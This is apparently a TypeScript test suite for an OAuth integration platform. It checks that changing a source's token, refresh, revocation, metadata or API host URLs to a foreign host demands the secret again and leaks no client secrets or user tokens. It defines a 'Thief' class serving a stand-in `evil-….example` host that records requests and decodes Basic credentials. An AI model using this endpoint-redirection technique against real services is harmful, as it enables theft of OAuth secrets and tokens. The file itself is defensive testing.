import { describe, expect, it } from 'vitest';
import { faultsOf, ok, refused } from '../worker/harness/answers.ts';
import { Browser } from '../worker/harness/browser.ts';
import {
  comeBack,
  createConnection,
  type Linked,
  linkedConnection,
  openLink,
  patchConnection,
  readConnection,
  walk,
} from '../worker/harness/link.ts';
import { createApplication, createDeveloper, manage } from '../worker/harness/management.ts';
import { OAuth2Provider } from '../worker/harness/oauth2-provider.ts';
import { type Exchanged, finishedRun, Run } from '../worker/harness/run.ts';
import { editTokens, withoutRefreshToken } from '../worker/harness/token-edit.ts';
import { World } from '../worker/harness/world.ts';

// A key that may edit a data source, and no more, points it at a host of its own: what would it be sent?

/** A host that takes what it is given. */
class Thief {
  readonly host: string;
  readonly taken: string[] = [];

  constructor(world: World) {
    this.host = `evil-${world.tag}.example`;
    world.internet.host(this.host, async (request) => {
      const body = new TextDecoder().decode(await request.arrayBuffer());
      const basic = request.headers.get('Authorization')?.replace(/^Basic /, '') ?? '';
      let plain = basic;
      try {
        plain = decodeURIComponent(atob(basic).replaceAll('+', ' '));
      } catch {
        // Not Basic: as it came.
      }
      this.taken.push(`${request.url} ${plain} ${body}`);
      return Response.json({ access_token: 'x', id: 'x' });
    });
  }
}

/** A developer with a source whose secret only its founder knows, and a key that may edit maps. */
async function shop() {
  const world = new World();
  const { key } = await createDeveloper(world);
  const provider = new OAuth2Provider(world);
  const thief = new Thief(world);
  const source = await provider.define({}, key);
  const editor = await ok<{ key: string }>(
    manage(
      world,
      'POST',
      '/keys',
      { name: 'editor', scopes: ['maps:read', 'maps:write', 'connections:write'] },
      key,
    ),
  );
  return { world, key, editor: editor.key, provider, thief, source };
}

describe('a changed URL', () => {
  it.each([
    ['access_token_url', 'token'],
    ['refresh_url', 'refresh'],
    ['revocation_url', 'revoke'],
    ['metadata_url', 'me'],
    ['api_host_url', ''],
  ])('%s on another host demands the secret again', async (field, path) => {
    const { world, editor, provider, thief, source } = await shop();
    const { id } = await linkedConnection(world, provider, source, { key: editor });
    const change = { [field]: `https://${thief.host}/${path}` };
    const answer = manage(world, 'PATCH', `/sources/${source.id}`, change, editor);
    const faults = faultsOf(await refused(answer, 400, 'invalid_request'));
    expect(faults.client_secret).toContain(thief.host);
    for (const secret of [{ client_secret: { set: true } }, { client_id: provider.clientId }]) {
      const again = manage(world, 'PATCH', `/sources/${source.id}`, { ...change, ...secret }, editor);
      await refused(again, 400, 'invalid_request');
    }
    await linkedConnection(world, provider, source, { key: editor });
    await manage(world, 'DELETE', `/connections/${id}`, undefined, editor);
    expect(thief.taken).toEqual([]);
  });

  it('in a map’s document does too', async () => {
    const { world, editor, thief, source } = await shop();
    const { source: document } = await ok<{ source: { auth: object } }>(
      manage(world, 'GET', `/maps/${source.id}`, undefined, editor),
    );
    const evil = `https://${thief.host}`;
    for (const changed of [
      { ...document, url: evil },
      { ...document, auth: { ...document.auth, access_token: `${evil}/token` } },
      { ...document, meta: { endpoint: { route: `${evil}/me` } } },
    ]) {
      await refused(manage(world, 'PUT', `/maps/${source.id}`, changed, editor), 400, 'invalid_request');
    }
    expect(thief.taken).toEqual([]);
  });

  it('with the secret of its own gets that one, and never the old', async () => {
    const { world, editor, provider, thief, source } = await shop();
    const made = await createConnection(world, source, {}, editor);
    const browser = new Browser(world);
    const callback = provider.consent(await openLink(browser, made.redirectUrl));
    const change = { access_token_url: `https://${thief.host}/token`, client_secret: 'a guess' };
    await ok(manage(world, 'PATCH', `/sources/${source.id}`, change, editor));
    await comeBack(browser, callback);
    // The guard's other side: the host is called, with what was entered for it.
    expect(thief.taken.length).toBeGreaterThan(0);
    expect(thief.taken.join('\n')).toContain('a guess');
    expect(thief.taken.join('\n')).not.toContain(provider.clientSecret);
  });

  it.each([
    ['with a made-up secret', {}, { client_secret: 'a guess' }],
    ['where there is no secret to demand', { client_secret: null, token_auth_method: 'none' }, {}],
  ])('takes no user’s tokens along to another API host, %s', async (_what, fields, secret) => {
    const { world, key, editor, provider, thief } = await shop();
    provider.answerToken = () => Response.json({ access_token: 'PLANTED-access', token_type: 'Bearer' });
    const source = await provider.define(fields, key);
    const application = await createApplication(world, {}, key);
    const run = await finishedRun(world, application, provider, source);
    const { accessToken } = await ok<Exchanged>(run.exchange({ clientUserId: 'user-1' }));
    const headers = { Authorization: `Bearer ${accessToken}` };
    const change = { api_host_url: `https://${thief.host}`, ...secret };
    await manage(world, 'PATCH', `/sources/${source.id}`, change, editor);
    const answer = await world.request(`/proxy/${source.id}/me`, { headers });
    expect(thief.taken.join('\n')).not.toContain('PLANTED');
    expect(answer.status).toBe(409);
  });

  it('takes no user’s tokens along to another revocation endpoint', async () => {
    const { world, editor, provider, thief, source } = await shop();
    const { id } = await linkedConnection(world, provider, source, { key: editor });
    const change = { revocation_url: `https://${thief.host}/revoke`, client_secret: 'a guess' };
    await manage(world, 'PATCH', `/sources/${source.id}`, change, editor);
    expect((await manage(world, 'DELETE', `/connections/${id}`, undefined, editor)).status).toBe(204);
    world.advance({ minutes: 60 });
    await world.sweep();
    expect(thief.taken.join('\n')).not.toContain('provider-refresh-token');
  });
});

it('a re-consent at another host, whoever it says it is, doesn’t inherit the refresh token from before', async () => {
  const world = new World();
  const { key } = await createDeveloper(world);
  const unique = { metadata_url: '/me', uniqueness: 'id' };
  const provider = new OAuth2Provider(world);
  const source = await provider.define(unique, key);
  const { id } = await linkedConnection(world, provider, source, { key });
  const { refresh_token: old } = (await readConnection(world, id, key)).auth.data;
  const evil = new OAuth2Provider(world, 'evil');
  const { name: _name, ...moved } = evil.fields(unique);
  await ok(manage(world, 'PATCH', `/sources/${source.id}`, moved, key));
  editTokens(world, evil, withoutRefreshToken);
  const link = await ok<Linked>(patchConnection(world, id, { scopes: ['profile', 'more'] }, key));
  await walk(world, evil, link);
  const { data } = (await readConnection(world, id, key)).auth;
  expect(String(old)).toMatch(/^provider-refresh-token/);
  // Refused, or taken without: what must not be is the new host's token beside the old host's.
  if (data.access_token === evil.issued[0]) expect(data).not.toHaveProperty('refresh_token');
  else expect(data.access_token).toBe(provider.issued[0]);
});

describe('an application’s own credentials at a source', () => {
  it('are not used where the source has moved, until they are entered again', async () => {
    const world = new World();
    const { key } = await createDeveloper(world);
    const provider = new OAuth2Provider(world);
    const thief = new Thief(world);
    // The platform's source, which its administrator moves; the credentials are the developer's.
    const source = await provider.define({ client_id: null, client_secret: null });
    const application = await createApplication(world, {}, key);
    const path = `/applications/${application.clientId}/sources/${source.id}`;
    const credentials = { client_id: provider.clientId, client_secret: provider.clientSecret };
    await ok(manage(world, 'PUT', path, credentials, key));
    const run = await Run.fromPage(world, application);
    await ok(run.bind());
    const callback = await run.consent(provider, source);

    const change = { access_token_url: `https://${thief.host}/token` };
    await ok(manage(world, 'PATCH', `/sources/${source.id}`, change));
    await run.callback(callback);
    const later = await Run.fromPage(world, application);
    const view = await ok<{ sources: { id: string }[] }>(later.bind());
    expect(view.sources.map(({ id }) => id)).not.toContain(source.id);
    expect(thief.taken).toEqual([]);

    await refused(manage(world, 'PUT', path, { enabled: true }, key), 400, 'invalid_request');
    await ok(manage(world, 'PUT', path, credentials, key));
    const again = await Run.fromPage(world, application);
    expect((await ok<{ sources: { id: string }[] }>(again.bind())).sources.map(({ id }) => id)).toContain(
      source.id,
    );
  });
});
